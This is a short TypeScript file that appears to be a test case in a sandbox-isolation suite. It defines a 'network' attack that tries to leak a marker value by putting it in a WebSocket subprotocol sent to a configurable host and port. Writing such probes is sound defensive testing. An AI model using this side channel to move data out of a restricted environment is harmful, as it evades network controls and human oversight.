import {defineAttack} from '../../attack.ts';

export const attack = defineAttack({
  kind: 'network',
  tries: 'Data in the subprotocol of a WebSocket.',
  script: `const socket = new WebSocket(\`ws://\${host}:\${port}/\`, [mark]);
await new Promise(resolve => (socket.onclose = resolve));`,
});
